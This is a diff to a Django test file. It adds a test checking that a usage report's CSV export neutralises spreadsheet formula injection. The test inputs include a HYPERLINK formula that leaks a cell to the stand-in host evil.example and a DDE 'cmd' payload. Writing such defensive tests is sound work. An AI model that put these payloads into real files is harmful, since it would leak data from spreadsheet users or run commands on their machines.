@@ -44,7 +44,9 @@ SECOND_CALL_MICROS = 40 * 1000 + 8 * 2000 + 0 * 100 + 3 * 1250  # 59_750
 
 
 def set_price(provider: str, model: str) -> None:
-    ModelPrice.objects.create(provider=provider, model=model, as_of=date(2026, 11, 1), **PRICES)
+    ModelPrice.objects.update_or_create(
+        provider=provider, model=model, defaults={"as_of": date(2026, 11, 1), **PRICES}
+    )
 
 
 def login(user: Any) -> Client:
@@ -389,6 +391,35 @@ def test_the_csv_is_also_served_for_accept_text_csv(
     )
     assert response.status_code == 200
     assert response.content.decode().splitlines()[1:] == ["2026-03-02,2026-03-02,2,2,80,8,0,0,7.000000,1"]
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        (
+            '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+            '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+        ),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Plain = name", "Plain = name"),
+    ],
+)
+def test_the_csv_quotes_cells_a_spreadsheet_would_read_as_a_formula(
+    cast: Cast, alice_api: APIClient, recorded_usage: dict[str, Any], name: str, cell: str
+) -> None:
+    Agent.objects.filter(pk=recorded_usage["coder"].pk).update(name=name)
+
+    response = usage(alice_api, group_by="agent", since="2026-03-02", until="2026-03-02", format="csv")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert rows[1] == [str(recorded_usage["coder"].pk), cell, "1", "1", "30", "3", "0", "0", "7.000000", "0"]
+    # The JSON report keeps the name as it is.
+    json_rows = usage(alice_api, group_by="agent", since="2026-03-02", until="2026-03-02").json()["results"]
+    assert json_rows[0]["label"] == name
 
 
 @pytest.mark.django_db(transaction=True)  # executors run in threads, as the planner tests drive them
